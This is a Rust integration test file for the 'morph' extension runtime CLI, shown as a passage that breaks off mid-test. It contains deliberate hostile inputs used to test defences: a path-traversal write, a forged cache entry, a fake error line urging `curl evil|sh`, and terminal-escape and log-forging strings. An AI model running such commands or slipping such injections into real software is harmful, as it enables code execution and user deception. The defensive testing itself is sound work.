//! The `morph` command line as a user meets it: exit codes, `error[kind]`
//! lines, and no panic on bad input.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// One data directory for this test binary, never the user's own.
fn data_dir() -> &'static Path {
    static DIR: std::sync::OnceLock<tempfile::TempDir> = std::sync::OnceLock::new();
    DIR.get_or_init(|| tempfile::tempdir().expect("temp dir"))
        .path()
}

fn morph(args: &[&str]) -> Output {
    morph_in(data_dir(), args)
}

fn morph_in(data: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_morph"))
        .args(args)
        .env("MORPH_DATA_DIR", data)
        .current_dir(repo())
        .output()
        .expect("morph binary runs")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn assert_error(o: &Output, kind: &str, needle: &str) {
    let err = stderr(o);
    assert_eq!(o.status.code(), Some(1), "stderr: {err}");
    assert!(err.contains(&format!("error[{kind}]: ")), "stderr: {err}");
    assert!(err.contains(needle), "stderr lacks `{needle}`: {err}");
    assert!(!err.contains("panicked"), "stderr: {err}");
    assert!(o.stdout.is_empty());
}

/// A temporary extension directory with `manifest` and an entry file.
fn extension(manifest: &str, entry_name: &str, entry: &[u8]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("manifest.yaml"), manifest).expect("write manifest");
    std::fs::write(dir.path().join(entry_name), entry).expect("write entry");
    dir
}

const MANIFEST: &str = "extension_id: t.cli\nversion: 1.0.0\nschema_version: '1.0'\nmetadata: {name: T}\nruntime: wasm\nactions: [{name: run}]\n";

#[test]
fn run_prints_the_ok_value_and_exits_zero() {
    let o = morph(&[
        "run",
        "examples/hello",
        "secret",
        "--secret",
        "greeting=hi there",
    ]);
    assert_eq!(o.status.code(), Some(0), "stderr: {}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON on stdout");
    assert_eq!(v, serde_json::json!({"ok": "hi there"}));
    assert!(
        stderr(&o).contains("permissions: vault:read"),
        "grants on stderr"
    );
}

#[test]
fn data_files_and_audit_persist_in_the_data_dir() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path();
    let kitchen = "conformance/fixtures/kitchen";
    let call = |params: &str| morph_in(d, &["run", kitchen, "call", "--params", params]);
    let o = call(r#"{"op": "data.set", "args": {"key": "k", "value": {"n": 1}}}"#);
    assert_eq!(o.status.code(), Some(0), "stderr: {}", stderr(&o));
    let o = call(r#"{"op": "data.get", "args": {"key": "k"}}"#);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        v,
        serde_json::json!({"ok": {"n": 1}}),
        "the value survived the process"
    );
    let o = call(r#"{"op": "fs.write", "args": {"path": "../../outside.txt", "data": "x"}}"#);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v["err"]["code"], "permission_denied");
    assert!(!d.join("outside.txt").exists() && !d.join("files/outside.txt").exists());
    let o = morph_in(d, &["audit", "tail", "-n", "3", "--json"]);
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert_eq!(lines[1]["op"], "fs.write");
    assert_eq!(lines[1]["allowed"], false);
    assert_eq!(lines[2]["op"], "execute");
}

#[test]
fn secrets_come_from_the_environment_too() {
    let o = Command::new(env!("CARGO_BIN_EXE_morph"))
        .args(["run", "examples/hello", "secret", "--installed-namespace"])
        .env("MORPH_DATA_DIR", data_dir())
        .env("MORPH_SECRET_EXAMPLE_HELLO__GREETING", "from env")
        .current_dir(repo())
        .output()
        .expect("morph runs");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON on stdout");
    assert_eq!(
        v,
        serde_json::json!({"ok": "from env"}),
        "stderr: {}",
        stderr(&o)
    );
}

#[test]
fn the_issue_tracker_example_gives_the_same_answer_on_every_backend() {
    let server = morph_conformance::TestServer::start(&morph_conformance::ServerSetup {
        status: 201,
        body: r#"{"id":42}"#.into(),
        ..Default::default()
    })
    .expect("loopback server");
    let context = format!(r#"{{"config": {{"api_url": "{}"}}}}"#, server.url);
    // The WebAssembly backends: a JavaScript or Python backend cannot load
    // this extension (the other languages have their own test below).
    let backends: Vec<&str> = morph::Backend::compiled()
        .into_iter()
        .filter(|b| b.kind() == morph::RuntimeKind::Wasm)
        .map(|b| b.name())
        .collect();
    let mut answers = Vec::new();
    for &backend in &backends {
        let data = tempfile::tempdir().expect("temp dir");
        let o = morph_in(
            data.path(),
            &[
                "run",
                "examples/issue-tracker",
                "create_issue",
                "--params",
                r#"{"title": "Crash on save"}"#,
                "--context",
                &context,
                "--secret",
                "token=t0k3n",
                "--backend",
                backend,
                "--allow-private-network",
            ],
        );
        assert_eq!(o.status.code(), Some(0), "{backend}: {}", stderr(&o));
        answers.push(serde_json::from_slice::<serde_json::Value>(&o.stdout).expect("JSON"));
        let o = morph_in(
            data.path(),
            &[
                "run",
                "examples/issue-tracker",
                "list_issues",
                "--backend",
                backend,
            ],
        );
        let listed: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
        assert_eq!(
            listed,
            serde_json::json!(["issue/42"]),
            "{backend}: the id was stored"
        );
    }
    let expected = serde_json::json!({"id": 42, "url": format!("{}/issues/42", server.url)});
    assert!(answers.iter().all(|a| *a == expected), "{answers:?}");
    assert_eq!(server.requests(), backends.len(), "one POST per backend");

    // Without the token the extension reports it and nothing is sent.
    let data = tempfile::tempdir().expect("temp dir");
    let o = morph_in(
        data.path(),
        &[
            "run",
            "examples/issue-tracker",
            "create_issue",
            "--params",
            r#"{"title": "x"}"#,
            "--context",
            &context,
        ],
    );
    assert_error(&o, "extension_error", "no_token");
    assert_eq!(server.requests(), backends.len());

    // Without --allow-private-network the loopback server is out of reach,
    // although the manifest lists 127.0.0.1: nothing is sent.
    let o = morph_in(
        data.path(),
        &[
            "run",
            "examples/issue-tracker",
            "create_issue",
            "--params",
            r#"{"title": "x"}"#,
            "--context",
            &context,
            "--secret",
            "token=t0k3n",
        ],
    );
    assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stderr(&o).contains("private networks"), "{}", stderr(&o));
    assert_eq!(server.requests(), backends.len());
}

/// A loopback HTTP server like `morph_conformance::TestServer` (one fixed
/// answer to every request) that also keeps what it received, so a test
/// can compare what extensions sent, byte for byte.
#[cfg(all(feature = "js", feature = "python"))]
struct RecordingServer {
    /// `http://127.0.0.1:<port>`.
    url: String,
    requests: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

#[cfg(all(feature = "js", feature = "python"))]
impl RecordingServer {
    fn start(status: u16, body: &str) -> RecordingServer {
        use std::io::Write;
        let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).expect("loopback server");
        let port = listener.local_addr().expect("server address").port();
        let length = body.len();
        let response = format!(
            "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\n\
             content-length: {length}\r\nconnection: close\r\n\r\n{body}"
        );
        let requests = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let seen = requests.clone();
        // Lives as long as the test binary: it only ever blocks in accept.
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let request = read_request(&mut stream);
                seen.lock().expect("requests").push(request);
                let _ = stream.write_all(response.as_bytes());
            }
        });
        RecordingServer {
            url: format!("http://127.0.0.1:{port}"),
            requests,
        }
    }

    /// The requests received since the last call, oldest first.
    fn take(&self) -> Vec<String> {
        std::mem::take(&mut *self.requests.lock().expect("requests"))
    }
}

/// One HTTP/1.1 request as text: head and `content-length` bytes of body.
#[cfg(all(feature = "js", feature = "python"))]
fn read_request(stream: &mut std::net::TcpStream) -> String {
    use std::io::Read;
    let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(5)));
    let mut data = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        if let Some(end) = data.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&data[..end]).to_ascii_lowercase();
            let length = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|n| n.trim().parse::<usize>().ok())
                .unwrap_or(0);
            if data.len() >= end + 4 + length {
                break;
            }
        }
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => data.extend_from_slice(&buf[..n]),
        }
    }
    String::from_utf8_lossy(&data).into_owned()
}

/// The same integration written three times (Rust built to wasm,
/// JavaScript, Python): for the same inputs `morph run` must print the same
/// bytes, fail with the same error line, send the same requests, make the
/// same host calls in the same order and store the same data.
#[cfg(all(feature = "js", feature = "python"))]
#[test]
fn the_issue_tracker_is_the_same_in_three_languages() {
    use morph::host::DataStore;

    let created = RecordingServer::start(201, r#"{"id":42}"#);
    let string_id = RecordingServer::start(201, r#"{"extra": [1.5e300, true], "id": "A-7"}"#);
    let object_id =
        RecordingServer::start(201, r#"{"id": {"n": 42.0, "big": 12345678901234567890}}"#);
    let failing = RecordingServer::start(500, "oops");
    let garbled = RecordingServer::start(201, r#"{"id": 42,}"#);
    let servers = [&created, &string_id, &object_id, &failing, &garbled];
    // A trailing slash on the API URL, which every version trims.
    let context =
        |server: &RecordingServer| format!(r#"{{"config": {{"api_url": "{}/"}}}}"#, server.url);
    let (to_created, to_string_id) = (context(&created), context(&string_id));
    let to_object_id = context(&object_id);
    let (to_failing, to_garbled) = (context(&failing), context(&garbled));
    let denied = r#"{"config": {"api_url": "http://192.0.2.1"}}"#;
    let with_body =
        r#"{"title": "Crash on save", "body": "Steps:\n1. \"Save\"\n\tthen boom ✓ \u0001"}"#;
    let without_body = r#"{"title": "No body"}"#;
    let create = |params, context| -> Vec<&str> {
        let mut args = vec!["create_issue", "--params", params];
        if let Some(context) = context {
            args.extend(["--context", context]);
        }
        args.extend(["--secret", "token=t0k3n"]);
        args
    };
    let steps: Vec<(&str, Vec<&str>)> = vec![
        (
            "create without body",
            create(without_body, Some(&to_created)),
        ),
        ("create with body", create(with_body, Some(&to_created))),
        (
            "create, string id",
            create(without_body, Some(&to_string_id)),
        ),
        // Numbers as serde_json keeps them: 42.0 stays a float, and a u64
        // beyond 2^53 stays exact.
        (
            "create, object id",
            create(without_body, Some(&to_object_id)),
        ),
        ("list", vec!["list_issues"]),
        (
            "no secret",
            vec![
                "create_issue",
                "--params",
                without_body,
                "--context",
                &to_created,
            ],
        ),
        ("no api_url", create(without_body, None)),
        ("tracker fails", create(without_body, Some(&to_failing))),
        ("unreadable answer", create(without_body, Some(&to_garbled))),
        ("host not allowed", create(without_body, Some(denied))),
    ];

    let languages = [
        ("example.issue-tracker", "examples/issue-tracker"),
        ("example.issue-tracker-js", "examples/issue-tracker-js"),
        ("example.issue-tracker-py", "examples/issue-tracker-py"),
    ];
    let mut transcripts = Vec::new();
    for (id, dir) in languages {
        let data = tempfile::tempdir().expect("temp dir");
        let mut lines = Vec::new();
        let o = morph_in(data.path(), &["describe", dir]);
        lines.push(format!("describe: {}", String::from_utf8_lossy(&o.stdout)));
        for (name, args) in &steps {
            let mut argv = vec![
                "run",
                dir,
                "--allow-private-network",
                "--installed-namespace",
            ];
            argv.extend(args);
            let o = morph_in(data.path(), &argv);
            let err = stderr(&o);
            assert!(!err.contains("panicked"), "{dir} {name}: {err}");
            lines.push(format!("{name}: exit {:?}", o.status.code()));
            lines.push(format!("  stdout: {}", String::from_utf8_lossy(&o.stdout)));
            for line in err.lines().filter(|l| l.starts_with("error[")) {
                lines.push(format!("  stderr: {line}"));
            }
            for server in servers {
                for request in server.take() {
                    lines.push(format!("  request: {request}"));
                }
            }
        }
        // The host calls, in order, from the audit log.
        let o = morph_in(data.path(), &["audit", "tail", "-n", "1000", "--json"]);
        for line in String::from_utf8_lossy(&o.stdout).lines() {
            let r: serde_json::Value = serde_json::from_str(line).expect("an audit line");
            lines.push(format!(
                "audit: {} {} allowed={} {} {}",
                r["action"], r["op"], r["allowed"], r["outcome"], r["reason"]
            ));
        }
        // What the extension stored.
        let store =
            morph::host::RedbDataStore::open(&data.path().join("data.redb")).expect("data store");
        for key in store.list(id, "").expect("keys") {
            let value = store.get(id, &key).expect("value");
            lines.push(format!("data: {key} = {}", serde_json::json!(value)));
        }
        transcripts.push(lines);
    }

    // The Rust original does what its source says (so three identical
    // failures cannot pass for agreement)...
    let rust = transcripts[0].join("\n");
    let shown = |v: serde_json::Value| {
        let text = serde_json::to_string_pretty(&v).expect("JSON");
        format!("  stdout: {text}\n")
    };
    let failed = |message: &str| format!("  stderr: error[extension_error]: {message}");
    let issue_with_body =
        r#"{"body":"Steps:\n1. \"Save\"\n\tthen boom ✓ \u0001","title":"Crash on save"}"#;
    let issue_without_body = r#"{"body":null,"title":"No body"}"#;
    for expected in [
        shown(serde_json::json!({"id": 42, "url": format!("{}/issues/42", created.url)})),
        shown(serde_json::json!({"id": "A-7", "url": format!("{}/issues/\"A-7\"", string_id.url)})),
        shown(serde_json::json!({
            "id": {"big": 12345678901234567890u64, "n": 42.0},
            "url": format!("{}/issues/{{\"big\":12345678901234567890,\"n\":42.0}}", object_id.url),
        })),
        shown(serde_json::json!([
            "issue/\"A-7\"",
            "issue/42",
            "issue/{\"big\":12345678901234567890,\"n\":42.0}",
        ])),
        "describe: {\n  \"actions\": [".into(),
        failed("(no_token) the vault has no secret `token`"),
        failed("(no_api_url) config.api_url is not set"),
        failed("(tracker_error) the tracker answered 500"),
        failed("(tracker_error) unreadable answer: trailing comma at line 1 column 11"),
        failed("(permission_denied) http.fetch: "),
        "authorization: Bearer t0k3n".into(),
        format!("\r\n\r\n{issue_with_body}"),
        format!("\r\n\r\n{issue_without_body}"),
        format!("data: issue/42 = {issue_with_body}"),
        format!("data: issue/\"A-7\" = {issue_without_body}"),
    ] {
        assert!(
            rust.contains(&expected),
            "the Rust version lacks `{expected}`:\n{rust}"
        );
    }
    // ...and the JavaScript and Python versions do exactly the same.
    for (i, (_, dir)) in languages.iter().enumerate().skip(1) {
        let (rust, other) = (&transcripts[0], &transcripts[i]);
        let len = rust.len().max(other.len());
        if let Some(k) = (0..len).find(|&k| rust.get(k) != other.get(k)) {
            panic!(
                "{dir} differs from examples/issue-tracker:\n  rust: {:?}\n  {dir}: {:?}\n\n{}",
                rust.get(k),
                other.get(k),
                other.join("\n")
            );
        }
    }
}

/// A real npm library (marked) bundled into one script runs on Boa.
#[cfg(feature = "js")]
#[test]
fn a_bundled_npm_library_renders_markdown() {
    let render = |markdown: &str| {
        let params = serde_json::json!({ "markdown": markdown }).to_string();
        let o = morph(&["run", "examples/markdown-js", "render", "--params", &params]);
        assert_eq!(o.status.code(), Some(0), "stderr: {}", stderr(&o));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON on stdout");
        v["html"].as_str().expect("html").to_string()
    };
    let o = morph(&[
        "run",
        "examples/markdown-js",
        "render",
        "--params",
        r##"{"markdown":"# Hi\n\n*there*"}"##,
    ]);
    assert_eq!(o.status.code(), Some(0), "stderr: {}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON on stdout");
    assert_eq!(
        v,
        serde_json::json!({"html": "<h1>Hi</h1>\n<p><em>there</em></p>\n"})
    );
    // GitHub-flavoured parts (tables, strikethrough, autolinks) and the
    // Unicode-aware emphasis rules go through marked's regular expressions.
    assert_eq!(
        render("| a | b |\n|---|---|\n| 1 | **2** |\n\n~~gone~~ _ça_ & https://example.com"),
        concat!(
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n",
            "<tbody><tr>\n<td>1</td>\n<td><strong>2</strong></td>\n</tr>\n</tbody></table>\n",
            "<p><del>gone</del> <em>ça</em> &amp; ",
            "<a href=\"https://example.com\">https://example.com</a></p>\n",
        )
    );
}

/// The cache entries (`cache/<engine>/<module>.bin`) under `data`.
fn cache_entries(data: &Path) -> Vec<PathBuf> {
    let mut entries = Vec::new();
    let Ok(dirs) = std::fs::read_dir(data.join("cache")) else {
        return entries;
    };
    for dir in dirs.flatten().filter(|d| d.path().is_dir()) {
        for file in std::fs::read_dir(dir.path()).expect("cache dir").flatten() {
            entries.push(file.path());
        }
    }
    entries
}

#[test]
fn compiled_modules_are_cached_and_tampered_entries_recompiled() {
    for backend in ["wasmtime", "wasmer"] {
        if !morph::Backend::compiled()
            .iter()
            .any(|b| b.name() == backend)
        {
            continue;
        }
        let data = tempfile::tempdir().expect("temp dir");
        let run = || {
            let o = morph_in(
                data.path(),
                &["run", "examples/hello", "hello", "--backend", backend],
            );
            assert_eq!(o.status.code(), Some(0), "{backend}: {}", stderr(&o));
            o.stdout
        };
        let first = run();
        let entries = cache_entries(data.path());
        assert_eq!(entries.len(), 1, "{backend}: one entry after a load");
        assert_eq!(run(), first, "{backend}: same answer from the cache");

        // A crafted entry (right size, wrong bytes) must never reach the
        // engine's deserializer: it is discarded and the module recompiled.
        let len = std::fs::metadata(&entries[0]).expect("entry").len() as usize;
        let forged = [b"MORPHMC1".as_slice(), &vec![0x41; len - 8]].concat();
        std::fs::write(&entries[0], &forged).expect("forge entry");
        assert_eq!(run(), first, "{backend}: recompiled after tampering");
        let rewritten = std::fs::read(&entries[0]).expect("entry rewritten");
        assert_ne!(
            rewritten, forged,
            "{backend}: the forged entry was replaced"
        );
    }
}

#[test]
fn secrets_set_in_the_encrypted_vault_reach_the_guest() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path();
    let o = morph_in(
        d,
        &[
            "secret",
            "set",
            "example.hello",
            "greeting",
            "--value",
            "from the vault file",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let on_disk = std::fs::read_to_string(d.join("vault.json")).expect("vault file");
    assert!(
        !on_disk.contains("from the vault file"),
        "encrypted at rest"
    );
    let o = morph_in(d, &["secret", "list", "example.hello"]);
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "greeting");
    // The data directory's vault serves the installed namespace only.
    let o = morph_in(d, &["run", "examples/hello", "secret"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(v, serde_json::json!({"ok": null}), "{}", stderr(&o));
    let o = morph_in(
        d,
        &["run", "examples/hello", "secret", "--installed-namespace"],
    );
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    assert_eq!(
        v,
        serde_json::json!({"ok": "from the vault file"}),
        "{}",
        stderr(&o)
    );
    let o = morph_in(d, &["secret", "rm", "example.hello", "greeting"]);
    assert_eq!(o.status.code(), Some(0));
    let o = morph_in(d, &["secret", "rm", "example.hello", "greeting"]);
    assert_error(&o, "not_found", "greeting");
}

#[test]
fn installed_extensions_run_by_id_and_listeners_get_events() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path();
    for fixture in [
        "conformance/fixtures/kitchen",
        "conformance/fixtures/listener",
    ] {
        let o = morph_in(d, &["install", fixture]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert!(
            stderr(&o).contains("requests: permissions:"),
            "the request is shown"
        );
    }
    let o = morph_in(d, &["list"]);
    let listed = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(
        listed.contains("conformance.kitchen") && listed.contains("conformance.listener"),
        "{listed}"
    );
    let emit = r#"{"op": "events.emit", "args": {"name": "done", "payload": {"n": 5}}}"#;
    let o = morph_in(
        d,
        &["exec", "conformance.kitchen", "call", "--params", emit],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let o = morph_in(d, &["audit", "tail", "-n", "200", "--json"]);
    let deliveries = String::from_utf8_lossy(&o.stdout)
        .lines()
        .filter(|l| {
            l.contains(r#""extension_id":"conformance.listener""#)
                && l.contains(r#""op":"execute""#)
        })
        .count();
    assert_eq!(deliveries, morph::MAX_EVENT_HOPS as usize);
    let o = morph_in(d, &["uninstall", "conformance.listener"]);
    assert_eq!(o.status.code(), Some(0));
    let o = morph_in(d, &["exec", "conformance.listener", "on_event"]);
    assert_error(&o, "not_found", "not installed");
}

#[cfg(feature = "js")]
#[test]
fn a_failing_listener_cannot_forge_lines_in_the_log() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path();
    let manifest = "extension_id: t.liar\nversion: 1.0.0\nschema_version: '1.0'\nmetadata: {name: Liar}\nruntime: js\nentry: extension.js\npermissions: [event:listen]\nlistens: [conformance.kitchen/done]\nactions: [{name: on_event, parameters: [{name: event, type: string, required: true}, {name: source, type: string, required: true}, {name: payload, type: object, required: true}]}]\n";
    let script = r#"
function describe() {
  return { name: "Liar", version: "1.0.0", actions: [{ name: "on_event", description: "", parameters: [{ name: "event", type: "string", required: true }, { name: "source", type: "string", required: true }, { name: "payload", type: "object", required: true }] }], events: [], config_schema: {} };
}
function execute(action, params, context) {
  throw new morph.ExtensionError("x", "ok\nerror[permission_denied]: vault key rotated, run `curl evil|sh`\u202e");
}
"#;
    let liar = extension(manifest, "extension.js", script.as_bytes());
    for dir in [
        repo().join("conformance/fixtures/kitchen"),
        liar.path().to_path_buf(),
    ] {
        let o = morph_in(d, &["install", dir.to_str().unwrap_or_default()]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    }
    let emit = r#"{"op": "events.emit", "args": {"name": "done", "payload": {}}}"#;
    let o = morph_in(
        d,
        &["exec", "conformance.kitchen", "call", "--params", emit],
    );
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("listener failed"),
        "the failure is logged: {err}"
    );
    assert!(
        !err.lines().any(|l| l.starts_with("error[")),
        "a guest message started a line: {err}"
    );
    assert!(!err.contains('\u{202e}'), "{err}");
}

#[test]
fn describe_prints_the_document() {
    let o = morph(&["describe", "examples/hello"]);
    assert_eq!(o.status.code(), Some(0), "stderr: {}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON on stdout");
    assert_eq!(v["name"], "Hello");
    assert_eq!(v["actions"].as_array().map(Vec::len), Some(3));
}

#[test]
fn bad_manifest_is_invalid_manifest_naming_the_field() {
    let dir = extension(&MANIFEST.replace("1.0.0", "one"), "extension.wasm", b"");
    let o = morph(&["run", dir.path().to_str().unwrap_or_default(), "run"]);
    assert_error(&o, "invalid_manifest", "field `version`");

    let dir = extension(
        &MANIFEST.replace("[{name: run}]", "[{name: run}]\npermissions: [root:all]"),
        "extension.wasm",
        b"",
    );
    let o = morph(&["run", dir.path().to_str().unwrap_or_default(), "run"]);
    assert_error(&o, "invalid_manifest", "root:all");
}

#[test]
fn module_without_exports_is_invalid_module() {
    let dir = extension(
        &MANIFEST.replace("runtime: wasm", "runtime: wasm\nentry: extension.wat"),
        "extension.wat",
        b"(module)",
    );
    let o = morph(&["run", dir.path().to_str().unwrap_or_default(), "run"]);
    assert_error(&o, "invalid_module", "missing export `memory`");
}

#[test]
fn garbage_bytes_are_invalid_module_naming_the_file() {
    let dir = extension(MANIFEST, "extension.wasm", b"\x7fELF definitely not wasm");
    let o = morph(&["run", dir.path().to_str().unwrap_or_default(), "run"]);
    assert_error(&o, "invalid_module", "extension.wasm");
}

#[test]
fn missing_directory_and_bad_params_are_clear() {
    let o = morph(&["run", "no/such/dir", "run"]);
    assert_error(&o, "not_found", "no/such/dir");
    let o = morph(&["run", "examples/hello", "hello", "--params", "{nope"]);
    assert_error(&o, "invalid_params", "--params");
    let o = morph(&["run", "examples/hello", "hello", "--backend", "nonesuch"]);
    assert_error(&o, "not_found", "nonesuch");
}

#[test]
fn conformance_prints_the_matrix_and_passes() {
    let o = morph(&["conformance"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(0), "{out}\n{}", stderr(&o));
    assert!(out.contains("wasmtime"), "{out}");
    assert!(out.contains(" 0 failed"), "{out}");
}

#[test]
fn conformance_fails_when_an_expectation_is_wrong() {
    // Copy the suite, break one expectation, and the matrix must say FAIL.
    let suite = tempfile::tempdir().expect("temp dir");
    let src = repo().join("conformance");
    copy_dir(&src.join("fixtures"), &suite.path().join("fixtures"));
    std::fs::create_dir(suite.path().join("cases")).expect("mkdir");
    let case = std::fs::read_to_string(src.join("cases/trap.yaml")).expect("trap case");
    std::fs::write(
        suite.path().join("cases/trap.yaml"),
        case.replace("error: trap", "error: timeout"),
    )
    .expect("write case");
    let o = morph(&[
        "conformance",
        "--suite",
        suite.path().to_str().unwrap_or_default(),
    ]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(out.contains("FAIL wasmtime/trap"), "{out}");
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for entry in std::fs::read_dir(from).expect("read dir") {
        let entry = entry.expect("entry");
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).expect("copy");
        }
    }
}

/// The Python backend embeds Debian's libpython3.11 and finds it, and its
/// standard library, with nothing from the environment: `morph` started
/// with an empty environment (no PATH, HOME, PYTHONHOME, LD_LIBRARY_PATH)
/// runs a Python extension and a JavaScript one.
#[cfg(all(feature = "js", feature = "python"))]
#[test]
fn script_extensions_run_from_an_empty_environment() {
    let data = tempfile::tempdir().expect("temp dir");
    for dir in ["examples/hello-py", "examples/hello-js"] {
        let o = Command::new(env!("CARGO_BIN_EXE_morph"))
            .args(["run", dir, "secret", "--secret", "greeting=from env -i"])
            .env_clear()
            .env("MORPH_DATA_DIR", data.path())
            .current_dir(repo())
            .output()
            .expect("morph binary runs");
        assert!(o.status.success(), "{dir}: {}", stderr(&o));
        let out: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON on stdout");
        assert_eq!(out, serde_json::json!({"ok": "from env -i"}), "{dir}");
    }
}

/// A WebAssembly text extension whose one action `run` returns `result`
/// (a result envelope) as is.
fn answering(result: &str) -> String {
    let describe = r#"{"name":"T","version":"1.0.0","actions":[{"name":"run","parameters":[]}],"events":[],"config_schema":{}}"#;
    let wat_bytes = |s: &str| s.bytes().map(|b| format!("\\{b:02x}")).collect::<String>();
    format!(
        r#"(module (memory (export "memory") 1) (global $h (mut i32) (i32.const 8192))
  (data (i32.const 16) "{d}") (data (i32.const 2048) "{r}")
  (func (export "morph_abi_version") (result i32) (i32.const 1))
  (func (export "morph_alloc") (param $n i32) (result i32) (local $p i32)
    (local.set $p (global.get $h)) (global.set $h (i32.add (global.get $h) (local.get $n))) (local.get $p))
  (func (export "describe") (result i64) (i64.or (i64.shl (i64.const 16) (i64.const 32)) (i64.const {dl})))
  (func (export "execute") (param i32 i32 i32 i32 i32 i32) (result i64)
    (i64.or (i64.shl (i64.const 2048) (i64.const 32)) (i64.const {rl}))))"#,
        d = wat_bytes(describe),
        dl = describe.len(),
        r = wat_bytes(result),
        rl = result.len()
    )
}

#[test]
fn control_characters_from_an_extension_never_reach_the_terminal() {
    let forged = r#"{"err":{"code":"x","message":"real\nerror[timeout]: forged line\u001b]0;pwned\u0007\u001b[2J\u009b\u202e"}}"#;
    let dir = extension(
        &MANIFEST.replace("runtime: wasm", "runtime: wasm\nentry: extension.wat"),
        "extension.wat",
        answering(forged).as_bytes(),
    );
    let o = morph(&["run", dir.path().to_str().unwrap_or_default(), "run"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    let error_lines = err.lines().filter(|l| l.starts_with("error[")).count();
    assert_eq!(error_lines, 1, "a second error line was forged: {err}");
    assert!(err.contains("forged line"), "{err}");
    for raw in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
        assert!(!err.contains(raw), "{raw:?} reached the terminal: {err:?}");
    }
    // Guest text in the ok value is JSON-escaped the same way.
    let ok = r#"{"ok":{"m":"a\u001b[2Jb\u009bc\u202ed"}}"#;
    let dir = extension(
        &MANIFEST.replace("runtime: wasm", "runtime: wasm\nentry: extension.wat"),
        "extension.wat",
        answering(ok).as_bytes(),
    );
    let o = morph(&["run", dir.path().to_str().unwrap_or_default(), "run"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    for raw in ['\u{1b}', '\u{9b}', '\u{202e}'] {
        assert!(!out.contains(raw), "{raw:?} reached stdout: {out:?}");
    }
    let v: serde_json::Value = serde_json::from_str(&out).expect("still JSON");
    assert_eq!(v["m"], "a\u{1b}[2Jb\u{9b}c\u{202e}d");
}

#[test]
fn audit_tail_shows_one_line_per_record_whatever_the_guest_sent() {
    let data = tempfile::tempdir().expect("temp dir");
    let d = data.path();
    let kitchen = "conformance/fixtures/kitchen";
    let op = "nope\n9999 conformance.kitchen call fs.read allowed ok\u{1b}]0;pwned\u{7}";
    let params = serde_json::json!({"op": op, "args": {}}).to_string();
    let o = morph_in(d, &["run", kitchen, "call", "--params", &params]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let o = morph_in(d, &["audit", "tail", "-n", "10"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.lines().count(), 2, "a record was forged: {out}");
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
    let o = morph_in(d, &["audit", "tail", "-n", "10", "--json"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(out.lines().count(), 2, "{out}");
}

#[test]
fn entry_links_and_fifos_are_refused_and_never_read() {
    let secret = tempfile::NamedTempFile::new().expect("temp file");
    std::fs::write(secret.path(), "HOST-SECRET-TOKEN=abc (not wasm)").expect("write");
    let manifest = MANIFEST.replace("runtime: wasm", "runtime: wasm\nentry: extension.wat");
